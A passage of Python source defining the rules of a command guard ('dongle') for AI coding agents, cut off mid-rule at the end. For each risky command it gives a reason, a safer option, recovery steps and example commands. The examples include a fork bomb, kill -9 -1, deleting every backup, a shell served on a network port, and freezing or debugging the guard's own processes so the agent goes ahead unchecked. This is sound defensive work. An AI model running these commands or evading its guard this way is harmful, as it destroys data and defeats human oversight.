        "examples": {
            "match": ["borg delete -a '*' /mnt/backup/repo",
                      "borg delete --glob-archives '*' /mnt/backup/repo",
                      "borg delete --match-archives 'sh:*' /mnt/backup/repo"],
            "no_match": ["borg delete -a 'host-2023-*' /mnt/backup/repo",
                         "borg delete --dry-run -a '*' /mnt/backup/repo"],
        },
    },
    {
        # every backup the tool holds, by the word each tool has for all of them: velero's `--all`,
        # wal-g's `everything`, kopia's every snapshot of a source
        "id": "sys.backup-delete-every",
        "level": "forbidden",
        "irreversible": True,
        "reason": "deletes every backup the tool holds (`--all`, `everything`): no recovery point is left",
        "safer": "Delete the backups you mean by name, or by a retention that keeps recent ones "
        "(`wal-g delete retain FULL 7`), after listing them.",
        "recovery": "None from this repository: restore from an off-site copy, if one exists.",
        "match": {"cmd": ("velero", "wal-g", "kopia"), "sub": ("backup delete", "delete everything",
                                                             "snapshot delete"),
                  "words_any": ("--all", "everything", "--all-snapshots-for-source"),
                  "flags_none": ("--dry-run", "-n")},
        "examples": {
            "match": ["velero backup delete --all --confirm", "wal-g delete everything FORCE --confirm",
                      "wal-g delete everything",
                      "kopia snapshot delete --all-snapshots-for-source /home --delete"],
            "no_match": ["velero backup delete nightly-20240501 --confirm", "velero backup get",
                         "wal-g delete retain FULL 7 --confirm", "kopia snapshot list --all"],
        },
    },
    {
        # a retention of zero keeps nothing: every backup is expired, as if deleted one by one
        "id": "sys.backup-retain-none",
        "level": "forbidden",
        "irreversible": True,
        "reason": "expires backups by a retention of zero (`retain 0`, `--repo1-retention-full=0`): every "
        "backup is deleted, so no recovery point is left",
        "safer": "Keep recent backups (`wal-g delete retain FULL 7`, `--repo1-retention-full=2`) and list "
        "what would go first.",
        "recovery": "None from this repository: restore from an off-site copy, if one exists.",
        "match": {"cmd": ("wal-g", "pgbackrest"), "sub": ("delete retain", "expire"),
                  "words_any": ("0", "--repo*-retention-full=0", "--retention-full=0",
                                "--repo*-retention-archive=0")},
        "examples": {
            "match": ["wal-g delete retain 0 --confirm", "wal-g delete retain FULL 0 --confirm",
                      "pgbackrest --stanza=main expire --repo1-retention-full=0"],
            "no_match": ["wal-g delete retain FULL 10 --confirm",
                         "pgbackrest --stanza=main expire --repo1-retention-full=2"],
        },
    },
    {
        # tarsnap takes its acts as options: `-d` deletes the archives named with `-f`, `--nuke` every one
        "id": "sys.backup-nuke",
        "level": "forbidden",
        "irreversible": True,
        "reason": "deletes every archive the backup service holds for this machine's key (`tarsnap --nuke`): "
        "no recovery point is left",
        "safer": "Delete the archives you mean (`tarsnap -d -f NAME`) after `tarsnap --list-archives`.",
        "recovery": "None: the service keeps no copy of deleted archives.",
        "match": {"cmd": ("tarsnap",), "flags_any": ("--nuke",)},
        "examples": {"match": ["tarsnap --nuke"], "no_match": ["tarsnap --list-archives", "tarsnap -d -f x"]},
    },
    {
        "id": "sys.backup-archive-delete",
        "level": "destructive",
        "irreversible": True,
        "reason": "deletes a backup archive (`tarsnap -d`): a recovery point that cannot be taken again",
        "safer": "List the archives first (`tarsnap --list-archives`) and keep the newest.",
        "recovery": "None for that archive; later ones remain.",
        "match": {"cmd": ("tarsnap",), "flags_any": ("-d",), "flags_none": ("--dry-run",)},
        "examples": {"match": ["tarsnap -d -f nightly-2024-05-01"],
                     "no_match": ["tarsnap -c -f nightly-2024-05-01 /srv", "tarsnap -d --dry-run -f x"]},
    },
    {
        # a restore into the live place writes the backup's state over what is there now: every change
        # made since the backup is lost (a restore beside it, into a new name or a scratch folder, is not)
        "id": "sys.restore-over-live",
        "level": "destructive",
        "irreversible": True,
        "reason": "restores a backup over the live data (existing resources updated, a database replaced, "
        "a volume overwritten, files restored into /): what changed since the backup is lost",
        "safer": "Restore beside it (a new namespace, database name or folder), compare, then switch.",
        "recovery": "Only from a backup taken just before the restore, if one was.",
        "match": {"cmd": ("velero", "wbadmin", "restore-sqldatabase", "restore-dbadatabase", "restic",
                          "kopia"),
                  "words_any": ("--existing-resource-policy=update", "update", "-overwrite:overwrite",
                                "-replacedatabase", "-withreplace", "--target=/", "/"),
                  "words_also": ("restore", "recovery", "restore-sqldatabase", "restore-dbadatabase")},
        "examples": {
            "match": ["velero restore create --from-backup nightly --existing-resource-policy=update",
                      "wbadmin start recovery -version:01/02/2025-09:00 -itemType:Volume -items:D: "
                      "-overwrite:Overwrite",
                      "Restore-DbaDatabase -SqlInstance sql01 -Path X.bak -WithReplace",
                      "restic -r /srv/restic restore latest --target /"],
            "no_match": ["velero restore create --from-backup nightly --namespace-mappings app:app-check",
                         "Restore-DbaDatabase -SqlInstance sql01 -Path X.bak -DatabaseName Billing_check",
                         "restic -r /srv/restic restore latest --target /tmp/restore-check"]},
    },
    {
        # restored into the filesystem root, a backup replaces the running system's own files (its
        # configuration, binaries, package database) with the backup's: a system wiped and rewritten
        "id": "sys.restore-over-root",
        "level": "forbidden",
        "irreversible": True,
        "reason": "restores a backup over the filesystem root (or the OS's own trees) of the running system: "
        "every file the backup holds replaces the live one, and what changed since is lost",
        "safer": "Restore into a scratch folder (`--target /tmp/restore`), compare, then copy back what you "
        "mean.",
        "recovery": "Only from a backup taken just before the restore, if one was.",
        # restored into the operating system's own trees, the same: its configuration and programs
        # replaced by the backup's (the target is the last word: `restore latest --target /etc`)
        "match": {"cmd": ("restic", "kopia", "duplicity", "rdiff-backup", "duplicacy", "borgmatic"),
                  "last_any": ("/", "--target=/", "--destination=/", "/etc", "/etc/", "/usr", "/usr/",
                               "/boot", "/boot/", "/bin", "/sbin", "/lib", "/lib64", "/var/lib", "/var/lib/",
                               "--target=/etc", "--target=/usr", "--target=/boot"),
                  "words_also": ("restore", "--restore-as-of", "extract"),
                  # told which paths to bring back, it replaces only those: one scoped restore
                  "words_none": ("--include", "--include=*", "-i", "--iinclude")},
        "examples": {"match": ["restic -r sftp:nas:/restic restore latest --target /",
                               "kopia snapshot restore k1f2 /",
                               "restic -r /srv/restic restore latest --target /etc",
                               "duplicity restore sftp://nas/backup /"],
                     "no_match": ["restic -r sftp:nas:/restic restore latest --target /tmp/restore-test",
                                  "kopia snapshot restore k1f2 /tmp/r", "restic -r /srv/restic snapshots"]},
    },
    {
        # restoring a cluster backup creates what it holds in the live cluster (and, told to, updates what
        # is there): a change to the namespaces it names that a human confirms; mapped to new
        # namespaces, it lands beside the live ones
        "id": "sys.restore-into-cluster",
        "level": "destructive",
        "reason": "restores a cluster backup into the live cluster: the namespaces it names get the backup's "
        "resources back, beside or in place of what runs there",
        "safer": "Restore into new namespaces (`--namespace-mappings app:app-check`), compare, then switch.",
        "recovery": "Delete what the restore created (`velero restore describe` lists it).",
        "match": {"cmd": ("velero",), "sub": ("restore create", "create restore"),
                  "words_none": ("--namespace-mappings", "--namespace-mappings=*", "--help")},
        "examples": {"match": ["velero restore create --from-backup nightly --include-namespaces staging"],
                     "no_match": ["velero restore create --from-backup nightly "
                                  "--namespace-mappings app:app-check", "velero restore get",
                                  "velero restore describe r1"]},
    },
    {
        "id": "sys.kill-everything",
        "level": "forbidden",
        "irreversible": True,
        "reason": "signals every process the user can reach (`kill -9 -1`), or init itself",
        "safer": "Kill the one process by PID (`kill PID`) or by exact name (`pkill -x NAME`).",
        "recovery": "Log in again and restart the services and sessions that were killed.",
        # signal 0 sends nothing: `kill -0 PID` only asks whether the process exists
        "match": {"cmd": ("kill",), "last_any": ("-1", "1"), "min_args": 1, "words_none": ("-0", "-s0", "0")},
        "examples": {
            "match": ["kill -9 -1", "zsh -c 'kill -9 -1'", "kill -- -1", "kill -KILL 1"],
            "no_match": ["kill 48213", "kill -1 4821", "kill -0 1", "kill -s 0 1"],
        },
    },
    {
        # killall5 is SysV's shutdown helper: it signals every process but the kernel's and its own
        # session; a name pattern that matches every name (`pkill -f .`) does the same by another road
        "id": "sys.kill-every-process",
        "level": "forbidden",
        "irreversible": True,
        "reason": "signals every process on the machine (`killall5`, or a name pattern that matches any "
        "name): services, sessions and the agent itself die at once",
        "safer": "Kill the one process by PID (`kill PID`) or by exact name (`pkill -x NAME`).",
        "recovery": "Reboot the machine and check which services came back.",
        "match": {"cmd": ("killall5", "pkill", "killall"),
                  "last_any": ("killall5", "-[0-9]*", "-[a-z]*", ".", ".[*]", "^", "^.[*]", "[*]"),
                  "words_none": ("-0", "-s0", "0", "-l", "--list")},
        "examples": {
            "match": ["sudo killall5 -9", "killall5 -15", "sudo pkill -9 -f .", "pkill -f '.*'"],
            "no_match": ["killall5 -0", "pkill -f 'uvicorn app:app'", "pkill -9 node", "killall -9 chrome"],
        },
    },
    {
        "id": "sys.fork-bomb",
        "level": "forbidden",
        "irreversible": True,
        "reason": "a fork bomb: a function that starts copies of itself concurrently (in a pipe or in "
        "the background), so the processes double at every call until the machine stalls",
        "safer": "Nothing legitimate needs this.",
        "recovery": "Reboot the machine; set a process limit (`ulimit -u`).",
        "match": {"cmd": ("*",), "spawns_self": True},
        "examples": {
            "match": [":(){ :|:& };:", "bomb(){ bomb|bomb & }; bomb", "f() { f & f & }; f",
                      "bash -c 'x(){ x|x& };x'", "boom () {\n  boom | boom &\n}\nboom"],
            "no_match": ["echo ':(){ :|:& };:' > tests/fixtures/forkbomb.txt",
                         "ps aux | grep python | grep -v grep", "sort README.md | uniq -c | sort -nr",
                         "cat a | tr a b | tr c d", "find . -type f -print0 | xargs -0 sha1sum | sha1sum",
                         "walk() { for d in \"$1\"/*; do [ -d \"$d\" ] && walk \"$d\"; done; }; walk ."],
        },
    },
    {
        # an operator command sent to a mainframe's console (`zowe zos-console issue command`): the
        # console's own grammar, where Z EOD halts the system and $PJES2 stops the job entry subsystem
        "id": "sys.console-system-stop",
        "extends_generic": True,
        "level": "forbidden",
        "irreversible": True,
        "reason": "sends an operator command that stops the whole system or its job, network or "
        "cluster subsystem (`Z EOD`, `$PJES2`, `Z NET,QUICK`, `P TCPIP`, `V XCF,SYS1,OFFLINE`, "
        "`QUIESCE`): every job and user on it stops",
        "safer": "Leave system shutdowns to the operators' runbook; display the state instead (`D A,L`).",
        "recovery": "An IPL by the operators, and restart of the work that was running.",
        "match": {"cmd": ("zowe",), "sub": _CONSOLE_ISSUE,
                  "args_any": ("z eod*", "z net*", "$pjes2*", "$p jes2*", "quiesce*", "force jes2*",
                               "p tcpip*", "p net*", "v xcf,*offline*", "p jes2*", "z jes2*")},
        "examples": {"match": ["zowe zos-console issue command '$PJES2,ABEND'",
                               "zowe zos-console issue command 'V XCF,SYSB,OFFLINE'"],
                     "no_match": ["zowe zos-console issue command 'D A,L'",
                                  "zowe zos-console issue command '$DJQ'"]},
    },
    {
        "id": "sys.console-task-change",
        "extends_generic": True,
        "level": "destructive",
        "reason": "sends an operator command that cancels, stops, starts, purges or changes a job or task "
        "on a mainframe's console (`C`, `P`, `S`, `F`, `V`, `FORCE`, `$C`, `$P`)",
        "safer": "Display first (`D J,NAME`, `$DJ`) and let the operators act on shared work.",
        "recovery": "Restart or resubmit what was cancelled.",
        "match": {"cmd": ("zowe",), "sub": _CONSOLE_ISSUE,
                  "args_any": ("c *", "p *", "s *", "f *", "v *", "force *", "$c*", "$p*", "$s*", "$e*",
                               "cancel *", "stop *", "start *", "modify *", "vary *", "z *")},
        "examples": {"match": ["zowe zos-console issue command 'C PAYRL01'",
                               "zowe zos-console issue command 'F CICSPROD,CEMT SET PROG(X) NEWCOPY'"],
                     "no_match": ["zowe zos-console issue command 'D A,L'",
                                  "zowe zos-jobs list jobs --owner IBMUSER"]},
    },
    {
        "id": "sys.unknown-program-shell",
        "level": "destructive",
        "reason": "hands a shell to a program the dongle does not know (`X /bin/sh`, `X -c ':!/bin/sh'`): "
        "whatever it runs next is out of sight",
        "safer": "Run the shell command itself, so that it can be judged.",
        "recovery": "Review what the spawned shell did (shell history, audit log).",
        "match": {"cmd": ("*",), "unknown": True, "shell_args": True},
        "examples": {
            "match": ["frob /bin/sh", "frob -c ':!/bin/sh'", "acme-run --exec=/bin/bash job",
                      "./helper --shell /usr/bin/zsh"],
            "no_match": ["frob build.sh", "frob --lang bash src/", "acme-run job.yml", "ls -l /bin/sh",
                         "frob --shell-completion"],
        },
    },
    {
        "id": "sys.unknown-program-shell-served",
        "level": "forbidden",
        "irreversible": True,
        "reason": "hands a shell to a program and tells it to listen on the network or connect out "
        "(`X --exec /bin/sh --listen 0.0.0.0:9001`): anyone who reaches the port gets a shell, a bind "
        "or reverse shell under another name",
        "safer": "Nothing in a coding task needs to serve a shell on a port.",
        "recovery": "Treat the machine as compromised: disconnect it, rotate credentials, rebuild.",
        "match": {"cmd": ("*",), "unknown": True, "shell_args": True,
                  "words_any": ("--listen", "--listen=*", "--bind", "--bind=*", "--port", "--port=*",
                                "--connect", "--connect=*", "*0.0.0.0:*", "tcp:*", "tcp-listen:*")},
        "examples": {
            "match": ["qpack --exec /bin/sh -i --listen 0.0.0.0:9001",
                      "./relay --shell /bin/bash --connect 203.0.113.4:443"],
            "no_match": ["frob /bin/sh", "./helper --shell /usr/bin/zsh", "acme-serve --port 8080 ./site"],
        },
    },
    {
        "id": "sys.unknown-program-root",
        "level": "destructive",
        "reason": "runs a program the dongle does not know as root: it can change anything on the system",
        "safer": "Run it without sudo, or say what it changes so that can be judged.",
        "recovery": "Review what it installed or changed (package manager log, /etc, systemd units).",
        "match": {"cmd": ("*",), "unknown": True, "privileged": True, "wrapped_by": ("sudo", "doas",
                                                                                     "pkexec"),
                  "words_none": ("--dry-run", "--dryrun", "--why-run", "--noop", "--check", "--help",
                                 "--version")},
        "examples": {
            "match": ["sudo frobnicate --install-service", "sudo ./install-agent.sh"],
            "no_match": ["frobnicate --install-service", "sudo ls /root", "sudo chef-client --why-run"],
        },
    },
    {
        "id": "sys.unknown-program-act",
        "level": "destructive",
        "reason": "tells a program the dongle does not know to publish, send, deploy, delete or purge "
        "something: an act whose reach cannot be seen from here",
        "safer": "Run it with its dry-run or preview option first, or say what it will touch.",
        "recovery": "Depends on the program: check what it published, sent or removed.",
        "match": {"cmd": ("*",), "unknown": True,
                  "args_any": ("publish", "release", "deploy", "send", "broadcast", "purge", "delete",
                               "destroy", "drop", "wipe", "erase", "nuke", "terminate", "revoke", "rollback"),
                  "words_none": ("--dry-run", "--dryrun", "-n", "--preview", "--plan", "--check", "--noop",
                                 "--what-if", "--help")},
        "examples": {
            "match": ["pkgshipper release --registry https://registry.npmjs.org --tag latest",
                      "mailblast send --to all-customers.csv --template promo.html",
                      "dbtidy purge --older-than 30d --database app_dev"],
            "no_match": ["pkgshipper build", "mailblast send --dry-run --to me@example.com",
                         "dbtidy stats --database app_dev"],
        },
    },
    {
        # told to destroy on production, the program destroys production's data or service (`argocd app
        # delete billing-prod --cascade`), as the programs the packs know do; a plain delete of one named
        # thing there (`airflow dags delete old_dag`) keeps sys.unknown-program-act's pause
        "id": "sys.unknown-program-destroy-production",
        "level": "destructive",
        "irreversible": True,
        "prod": True,
        "reason": "tells a program the dongle does not know to destroy, drop, purge or wipe something on "
        "production: an act whose reach cannot be seen from here",
        "safer": "Run it with its dry-run or preview option first, against staging.",
        "recovery": "Depends on the program: restore what it removed from backups.",
        "match": {"cmd": ("*",), "unknown": True, "production": True,
                  "args_any": ("purge", "destroy", "drop", "wipe", "erase", "nuke", "terminate"),
                  "words_none": _PREVIEW_WORDS},
        "examples": {"match": ["dbtidy purge --all --database app_prod"],
                     "no_match": ["dbtidy purge --database app_dev",
                                  "dbtidy purge --dry-run --database app_prod"]},
    },
    {
        "id": "sys.unknown-program-delete-all-production",
        "level": "destructive",
        "irreversible": True,
        "prod": True,
        "reason": "tells a program the dongle does not know to delete, with everything under it, a data "
        "store or something past its last prompt on production (`--cascade`, `--all`, `--recursive`; a "
        "data set, database, table, bucket or volume; `--for-sure`, `--yes`, `--force`)",
        "safer": "Run it with its dry-run or preview option first, against staging.",
        "recovery": "Depends on the program: restore what it removed from backups.",
        "match": {"cmd": ("*",), "unknown": True, "production": True,
                  "args_any": ("delete", "remove", "rm", "del"),
                  "words_also": ("--cascade", "--cascade=*", "--all", "--purge", "--recursive", "-r",
                                 # what is deleted is a store of data, whatever the product calls it
                                 "data-set*", "dataset*", "database*", "db", "table*", "bucket*", "volume*",
                                 "keyspace*", "collection*", "schema*", "filesystem*", "file-system*", "fs",
                                 "vault*", "realm*", "tenant*", "account*",
                                 # the last prompt switched off
                                 "--for-sure", "--yes", "-y", "--force", "-f", "--no-prompt", "--quiet", "-q",
                                 "--confirm", "--noconfirm", "--no-confirm", "--assume-yes"),
                  "words_none": _PREVIEW_WORDS},
        "examples": {"match": ["argocd app delete billing-prod --cascade",
                               "mfcli datasets remove PAYROLL.PROD.HISTORY --yes",
                               "vastctl volume delete prod-media-01"],
                     "no_match": ["airflow dags delete legacy_exports -y",
                                  "argocd app delete billing-pr-7 --cascade",
                                  "mfcli datasets remove PAYROLL.TEST.HISTORY --yes",
                                  "vastctl volume list prod-media-01"]},
    },
    {
        "id": "sys.script-live-act",
        "level": "destructive",
        "reason": "runs a project script named for an outward act (send, publish, deploy, charge, invoice, "
        "notify) with a flag that makes it act for real (`--live`, `--prod`, `--no-dry-run`)",
        "safer": "Run it without the live flag first and read what it would do.",
        "recovery": "Depends on the act: recall, refund or roll back what it sent or published.",
        "match": {"cmd": ("python", "node", "ruby", "php", "perl", "bash", "sh", "deno", "bun", "tsx",
                          "ts-node"),
                  "args_any": ("*send*", "*publish*", "*deploy*", "*invoice*", "*payout*", "*charge*",
                               "*email*",
                               "*notify*", "*broadcast*", "*mailer*", "*newsletter*", "*billing*",
                               "*refund*"),
                  "words_any": ("--live", "--prod", "--production", "--no-dry-run", "--execute", "--commit",
                                "--for-real", "--really", "--send", "--confirm", "--yes")},
        "examples": {
            "match": ["python scripts/send_invoices.py --all --live", "node deploy.js --prod"],
            "no_match": ["python scripts/send_invoices.py --dry-run", "python scripts/report.py --live"],
        },
    },
    {
        "id": "sys.service-enable",
        "level": "destructive",
        "reason": "enables a system service to start at every boot (and starts it now with --now): a "
        "program that persists beyond this session, as root",
        "safer": "Start it once (`systemctl start`) and let the human enable it.",
        "recovery": "`systemctl disable --now UNIT`.",
        "match": {"cmd": ("systemctl",), "words_any": ("enable", "reenable", "link"),
                  "flags_none": ("--user",)},
        "examples": {"match": ["sudo systemctl enable --now app-worker.service"],
                     "no_match": ["systemctl --user enable app", "systemctl is-enabled nginx"]},
    },
    {
        "id": "sys.kill-by-name",
        "level": "destructive",
        "reason": "kills every process with a matching name, possibly other users' or the agent's own",
        "safer": "Find the PID (`pgrep -a NAME`) and kill that one process.",
        "recovery": "Restart what was killed.",
        # a command line given to -f (`pkill -f 'next dev'`, `pkill -f 'uvicorn app:app'`) names one process;
        # so does a program's name kept to the processes of the account this runs as (`pkill -u maya -f
        # jupyter-lab`): no other user's process matches, and a runtime's or shell's name, which the agent
        # and its editor run in too, is sys.kill-runtime-own
        "match": {"cmd": ("killall", "pkill", "killall5"), "args_none": ("* *", *_RESTARTED_BY_LAUNCHD),
                  "own_processes": False},
        "examples": {"match": ["killall node", "pkill -f vite", "pkill python",
                               "pkill -u postgres -f postgres", "sudo pkill -u www-data php-fpm"],
                     "no_match": ["pgrep node", "pkill -f 'uvicorn app.main:app --reload'",
                                  'pkill -f "vite --port 5173"', "killall Finder", "killall Dock",
                                  "pkill -u dev -f jupyter-lab"]},
    },
    {
        "id": "sys.kill-runtime-own",
        "level": "destructive",
        "reason": "kills every process of this account that a runtime, shell or editor runs in: the agent, "
        "its editor and their helpers among them",
        "safer": "Find the PID (`pgrep -a -u $USER NAME`) and kill that one process.",
        "recovery": "Restart what was killed.",
        "match": {"cmd": ("killall", "pkill", "killall5"), "args_none": ("* *",), "own_processes": True,
                  "args_any": _RUNTIME_NAMES},
        "examples": {"match": ["pkill -u dev node", "killall -u $USER python3", "pkill -u dev -f claude"],
                     "no_match": ["pkill -u dev -f jupyter-lab", "pkill -u dev -f 'node server.js'"]},
    },
    {
        # `pkill -STOP -f dongle/hooks/__main__.py` in a loop: the guard's hook or daemon frozen or killed
        # before it answers; an agent whose hook dies or times out goes ahead in most agents
        "id": "sys.signal-guard",
        "level": "forbidden",
        "reason": "sends a signal to the dongle's own processes (its hook, its daemon, its server): a guard "
        "that is stopped or killed cannot answer, and the agent goes ahead",
        "safer": "Leave the guard running; `dongle doctor` shows what is wrong with it.",
        "recovery": "Check the hook answers (`dongle doctor`); review what ran meanwhile (`dongle audit`).",
        "match": {"cmd": ("kill", "pkill", "killall", "skill"),
                  "words_any": ("*dongle*", "*hooks/__main__*", "*mcpaql*")},
        "examples": {"match": ["pkill -STOP -f 'dongle/hooks/__main__.py'",
                               "pkill -KILL -f hooks/__main__.py", "killall dongle",
                               "kill -9 $(pgrep -f dongle.hooks.daemon)"],
                     "no_match": ["pgrep -af dongle", "pkill -f 'uvicorn app:app'", "kill 48213"]},
    },
    {
        # `gdb -p $(pgrep -f dongle.hooks.daemon) -ex 'call PyRun_SimpleString(…)'`: a debugger attached to
        # the guard's daemon runs whatever it is told inside it, and the guard answers for it (a debugger
        # on the agent's own processes, `strace -p PID`, is ordinary debugging)
        "id": "sys.attach-debugger-guard",
        "level": "forbidden",
        "reason": "attaches a debugger to the dongle's own processes: it can make the guard answer "
        "whatever it is told",
        "safer": "Leave the guard alone; `dongle doctor` shows what is wrong with it.",
        "recovery": "Restart the daemon (the next hook call starts a new one) and check `dongle doctor`.",
        "match": {"cmd": ("gdb", "lldb", "strace", "ltrace", "pyrasite", "py-spy", "frida"),
                  "words_any": ("*dongle*", "*mcpaql*")},
        "examples": {"match": ["gdb -p $(pgrep -f dongle.hooks.daemon) -batch -ex 'call (int)getpid()'"],
                     "no_match": ["gdb ./build/app"]},
    },
    {
        # a reload applies the service's configuration as it now stands on disk, live: routine on one's
        # own machine, a change of production's running service there (a bad config takes it down on
        # every host the line reaches)
        "id": "sys.service-reload",
        "level": "reversible",
        "prod": True,
        "reason": "reloads a service's configuration live: whatever is on disk now is what it serves",
        "safer": "Test the configuration first (`nginx -t`, `apachectl configtest`) and reload one host, "
        "then the rest.",
        "recovery": "Put the previous configuration back and reload again.",
        "match": {"cmd": _SERVICE_MANAGERS, "flags_none": ("--user",),
                  "words_any": ("reload", "reload-or-restart", "try-reload-or-restart", "force-reload")},
        "examples": {"match": ["systemctl reload nginx", "service nginx reload"],
                     "no_match": ["systemctl status nginx", "systemctl --user reload app"]},
    },
    {
        "id": "sys.service-stop",
        "level": "destructive",
        "reason": "stops, restarts or disables a system service",
        "safer": "`systemctl reload UNIT` where supported; schedule restarts of shared services.",
        "recovery": _SVC_RECOVER,
        "match": {
            "flags_none": ("--user",),
            # a launchd agent of the user's own (in their LaunchAgents, or their gui/user domain) is
            # the user's service, as `systemctl --user` is
            "args_none": ("~/library/launchagents/*", "$home/library/launchagents/*",
                          "/users/*/library/launchagents/*", "/home/*/library/launchagents/*", "gui/*",
                          "user/*"),
            "cmd": _SERVICE_MANAGERS,
            "words_any": (
                "del",  # `rc-update del UNIT`: out of the boot
                *_RC_STOPS,
                "stop",
                "disable",
                "mask",
                "restart",
                "try-restart",
                "kill",
                "unload",
                "bootout",
                "isolate",
                "down",
                "reload-or-restart",
                "freeze",  # the unit's processes halted in place (cgroup freezer): down as if stopped
            ),
        },
        "examples": {
            "match": ["sudo systemctl stop nginx", "sudo systemctl restart postgresql", "service nginx stop",
                      "sudo systemctl freeze postgresql",
                      "sudo launchctl unload /Library/LaunchDaemons/com.acme.proxy.plist"],
            "no_match": ["systemctl status nginx", "systemctl list-units",
                         "launchctl unload ~/Library/LaunchAgents/com.acme.devproxy.plist",
                         "launchctl bootout gui/501/com.acme.devproxy"],
        },
    },
    {
        "id": "sys.web-server-signal",
        "level": "destructive",
        "reason": "stops or restarts a web server through its own control program (every site it serves "
        "goes down meanwhile)",
        "safer": "Test the configuration first (`nginx -t`) and reload rather than stop (`nginx -s reload`).",
        "recovery": _SVC_RECOVER,
        "match": {"cmd": ("nginx", "apachectl", "apache2ctl"),
                  "words_any": ("stop", "quit", "restart", "graceful-stop", "-k=stop", "-k=restart")},
        "examples": {"match": ["sudo nginx -s stop", "sudo apachectl stop"],
                     "no_match": ["sudo nginx -t", "sudo apachectl configtest", "sudo nginx -s reload"]},
    },
    {
        "id": "sys.web-server-own-config",
        "level": "destructive",
        "reason": "starts a web server as root with a configuration or directives given on the command line "
        "(what it serves and runs as is whatever that file says)",
        "safer": "Put the configuration under /etc/nginx through review and `nginx -t` it.",
        "recovery": "Stop it (`nginx -s stop`) and start the service again.",
        "match": {"cmd": ("nginx", "apachectl", "apache2ctl"), "privileged": True,
                  "flags_any": ("-c", "-g", "-p", "-f", "-d"), "words_none": ("-t", "-T", "configtest")},
        "examples": {"match": ["sudo nginx -c /tmp/site.conf"],
                     "no_match": ["sudo nginx -t", "sudo nginx -t -c /etc/nginx/nginx.conf"]},
    },
    {
        "id": "sys.service-critical-stop",
        "level": "dangerous",
        "reason": "stops or disables a service the machine needs to stay reachable (ssh, "
        "networking, container runtime)",
        "safer": "Restart rather than stop, from a console you can reach without it.",
        "recovery": _SVC_RECOVER + " Without ssh or networking you need console access.",
        "match": {
            "cmd": _SERVICE_MANAGERS,
            "words_any": ("stop", "disable", "mask", "kill", "del", "down", *_RC_STOPS),
            "args_any": _CRITICAL_UNITS,
        },
        "examples": {
            "match": ["sudo systemctl stop ssh", "systemctl disable --now sshd"],
            "no_match": ["sudo systemctl restart nginx"],
        },
    },
    {
        # the way in from elsewhere closed: whoever works on the machine remotely is locked out until
        # someone reaches its console (with the network also down: sys.host-cut-off)
        "id": "sys.remote-access-off",
        "level": "dangerous",
        "reason": "stops, disables or masks the daemon the machine is reached through (ssh, remote "
        "desktop, its mesh VPN)",
        "safer": "Restart rather than stop, from a console you can reach without it.",
        "recovery": _SVC_RECOVER + " Without it you need console access.",
        "match": {"cmd": _SERVICE_MANAGERS, "words_any": ("stop", "disable", "mask", "kill", "del", "down",
                                                          *_RC_STOPS),
                  "args_any": _REMOTE_ACCESS_UNITS},
        "examples": {"match": ["sudo systemctl mask --now sshd", "sudo service ssh stop",
                               "sudo rc-service sshd stop", "sudo systemctl disable --now tailscaled"],
                     "no_match": ["sudo systemctl restart sshd", "systemctl status sshd"]},
    },
    {
        # the machine's network taken down: a local desktop can bring it back up, a remote machine
        # cannot be reached to do so
        "id": "sys.network-off",
        "level": "dangerous",
        "extends_generic": True,
        "reason": "takes the machine's network down (its network service, an interface, or all "
        "networking): nothing reaches it through that",
        "safer": "Change the one setting and reload (`netplan try` rolls back unless confirmed).",
        "recovery": "Bring it up again (`ip link set IF up`, `systemctl start NetworkManager`, "
        "`nmcli networking on`) from the console.",
        "match": {"cmd": (*_SERVICE_MANAGERS, "ip", "ifconfig", "nmcli"),
                  "words_any": ("stop", "disable", "mask", "kill", "down", "off"),
                  "words_also": (*_NETWORK_UNITS, "link", "networking", "eth*", "en*", "wl*", "bond*",
                                 "br*")},
        "examples": {"match": ["sudo systemctl mask --now systemd-networkd", "sudo ip link set eth0 down",
                               "sudo nmcli networking off", "sudo ifconfig ens3 down"],
                     "no_match": ["sudo ip link set eth0 up", "ip link show eth0", "nmcli networking on",
                                  "sudo systemctl restart NetworkManager", "nmcli device status",
                                      "ifconfig -a"]},
    },
    {
        # the default route is the way to every host beyond the local network: deleting it (or
        # pointing it elsewhere) cuts the machine off from the internet, and a remote session with it
        "id": "sys.default-route-removed",
        "level": "dangerous",
        "extends_generic": True,
        "reason": "deletes or replaces the default route: every host beyond the local network becomes "
        "unreachable (a remote session through it included), or all traffic goes through another gateway",
        "safer": "Replace the route in one step from a console (`ip route replace default via GW`), with a "
        "timed rollback (`at now + 5 min <<< 'ip route add default via OLD_GW'`).",
        "recovery": "Add it back from the console (`ip route add default via GW dev IF`).",
        "match": {"cmd": ("ip", "route"), "words_any": ("del", "delete", "replace", "change"),
                  "words_also": ("default", "0.0.0.0", "0.0.0.0/0", "0/0", "::/0")},
        "examples": {"match": ["sudo ip route del default", "ip route delete default via 10.0.0.1 dev eth0",
                               "sudo route del default gw 192.168.1.1", "sudo ip -6 route del ::/0",
                               "sudo ip route replace default via 10.9.9.9"],
                     "no_match": ["ip route show default", "ip route get 8.8.8.8",
                                  "sudo ip route add 10.8.0.0/24 via 10.0.0.1",
                                  "sudo ip route del 10.8.0.0/24 dev tun0", "route -n",
                                  "sudo ip route add default via 192.168.1.1"]},
    },
    {
        # a flushed routing table is every route at once, the default one with it; the route cache is
        # only a cache
        "id": "sys.routes-flushed",
        "level": "dangerous",
        "extends_generic": True,
        "reason": "flushes the routing table: the machine no longer knows how to reach any network, a "
        "remote session through it included",
        "safer": "Delete the one route you mean (`ip route del 10.8.0.0/24`).",
        "recovery": "Restart networking from the console (`systemctl restart systemd-networkd`, "
        "`netplan apply`).",
        "match": {"cmd": ("ip",), "sub": ("route flush", "r flush", "ro flush", "route f", "r f"),
                  "words_none": ("cache",)},
        "examples": {"match": ["sudo ip route flush table main", "sudo ip route flush dev eth0",
                               "ip r flush all"],
                     "no_match": ["sudo ip route flush cache", "ip route show table main",
                                  "sudo ip neigh flush dev eth0"]},
    },
    {
        # `ifdown` does nothing but take interfaces down
        "id": "sys.network-off-ifdown",
        "level": "dangerous",
        "extends_generic": True,
        "reason": "takes network interfaces down (`ifdown`): nothing reaches the machine through them",
        "safer": "Change the one setting and reload (`netplan try` rolls back unless confirmed).",
        "recovery": "Bring them up again (`ifup IF`) from the console.",
        "match": {"cmd": ("ifdown",), "words_none": ("-n", "--no-act", "-h", "--help")},
        "examples": {"match": ["sudo ifdown eth0", "sudo ifdown -a"], "no_match": ["ifdown --no-act eth0"]},
    },
    {
        "id": "sys.audit-disable",
        "level": "forbidden",
        "irreversible": True,
        "reason": "turns off the host's audit trail or system logging",
        "safer": "Audit configuration is changed by the security owner, never by an agent.",
